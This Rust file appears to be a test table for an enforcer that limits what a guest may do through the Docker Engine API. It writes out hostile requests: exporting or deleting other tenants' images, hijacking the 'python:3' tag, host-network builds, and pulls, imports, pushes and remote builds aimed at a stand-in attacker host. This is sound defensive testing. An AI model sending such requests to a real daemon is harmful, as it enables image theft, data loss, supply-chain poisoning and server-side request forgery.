//! Images and builds: those of others, names that others use, and an engine that asks the network for somebody (S11,
//! S23).

use super::{Book, Effect, ask, has, is, upload};

/// A login for a registry: `{}`.
const LOGIN: &str = "X-Registry-Auth: e30=\r\n";

pub(super) fn add(book: &mut Book) {
    of_others(book);
    asked_for_somebody(book);
    made(book);
    built(book);
}

fn of_others(book: &mut Book) {
    for (name, route, target, part) in [
        ("others' images are listed", "GET /images/json", "json", "foreign/private:1"),
        (
            "another's image is inspected",
            "GET /images/{image}/json",
            "foreign/private:1/json",
            "SECRET-OF-IMAGE",
        ),
        (
            "the history of another's image is read",
            "GET /images/{image}/history",
            "foreign/private:1/history",
            "SECRET-OF-HISTORY",
        ),
        (
            "another's image is copied",
            "GET /images/{image}/get",
            "foreign/private:1/get",
            "SECRET-OF-IMAGE",
        ),
        (
            "others' images are copied",
            "GET /images/get",
            "get?names=foreign/private:1&names=enforcer-test-guest",
            "SECRET-OF-IMAGE",
        ),
    ] {
        let target = format!("/v1.41/images/{target}");
        book.add("S12", name, &[route], [ask("GET", &target)], Effect::Answer(part));
    }
    book.add(
        "S12",
        "another's image is removed",
        &["DELETE /images/{image}"],
        [ask("DELETE", "/v1.41/images/foreign/private:1?force=1")],
        Effect::Gone("/images/foreign/private:1/json".to_owned()),
    )
    .harms();
    book.add(
        "S22",
        "others' idle images are removed",
        &["POST /images/prune"],
        [ask("POST", "/v1.41/images/prune?filters=%7B%22dangling%22%3A%5B%22false%22%5D%7D")],
        Effect::Gone("/images/foreign/private:1/json".to_owned()),
    )
    .harms();
}

/// S23: the engine opens connections for whoever asks it to.
fn asked_for_somebody(book: &mut Book) {
    for (name, route, step) in [
        (
            "a pull from a registry of the attacker's",
            "POST /images/create",
            ask("POST", "/v1.41/images/create?fromImage=@canary@/x&tag=1"),
        ),
        (
            "an import from an address",
            "POST /images/create",
            ask("POST", "/v1.41/images/create?fromSrc=http%3A%2F%2F@canary@%2Fx.tar&repo=@name@"),
        ),
        (
            "a push",
            "POST /images/{image}/push",
            ask("POST", "/v1.41/images/@canary@/x/push?tag=1").with(LOGIN),
        ),
        (
            "a question to a registry",
            "GET /distribution/{image}/json",
            ask("GET", "/v1.41/distribution/@canary@/x:1/json"),
        ),
        (
            "a login",
            "POST /auth",
            super::send(
                "POST",
                "/v1.41/auth",
                &serde_json::json!({"username": "u", "password": "p", "serveraddress": "http://@canary@"}),
            ),
        ),
        (
            "a search",
            "GET /images/search",
            ask("GET", "/v1.41/images/search?term=@canary@/x&limit=1"),
        ),
        (
            "a build of an address",
            "POST /build",
            ask("POST", "/v1.41/build?remote=http%3A%2F%2F@canary@%2FDockerfile"),
        ),
    ] {
        book.add("S23", name, &[route], [step], Effect::Canary);
    }
}

fn made(book: &mut Book) {
    let tagged = || Effect::Says("/images/python:3/json".to_owned(), "/RepoTags", has("python:3"));
    book.add(
        "S22",
        "a name that others use is given to an image",
        &["POST /images/{image}/tag"],
        [ask("POST", "/v1.41/images/enforcer-test-guest/tag?repo=python&tag=3")],
        tagged(),
    );
    book.add(
        "S13",
        "an image is loaded from a file",
        &["POST /images/load"],
        [upload("POST", "/v1.41/images/load", "image.tar")],
        Effect::Says("/images/loaded:1/json".to_owned(), "/RepoTags", has("loaded:1")),
    );
    book.add(
        "S13",
        "an image is imported from a file",
        &["POST /images/create"],
        [upload("POST", "/v1.41/images/create?fromSrc=-&repo=python&tag=3", "planted.tar")],
        tagged(),
    );
}

/// S11. What a build of one's own may do is said elsewhere; here is what none may.
fn built(book: &mut Book) {
    book.add(
        "S11",
        "a build has the host's network",
        &["POST /build"],
        [upload(
            "POST",
            "/v1.41/build?networkmode=host&buildargs=%7B%22TO%22%3A%22@canary@%22%7D",
            "build.tar",
        )
        .quiet(5_000)],
        Effect::Canary,
    );
    book.add(
        "S11",
        "a build makes an image of a name that others use",
        &["POST /build"],
        [upload(
            "POST",
            "/v1.41/build?t=python:3&buildargs=%7B%22TO%22%3A%22127.0.0.1:9%22%7D",
            "build.tar",
        )
        .quiet(5_000)],
        Effect::Says("/images/python:3/json".to_owned(), "/RepoTags/0", is("python:3".into())),
    );
}
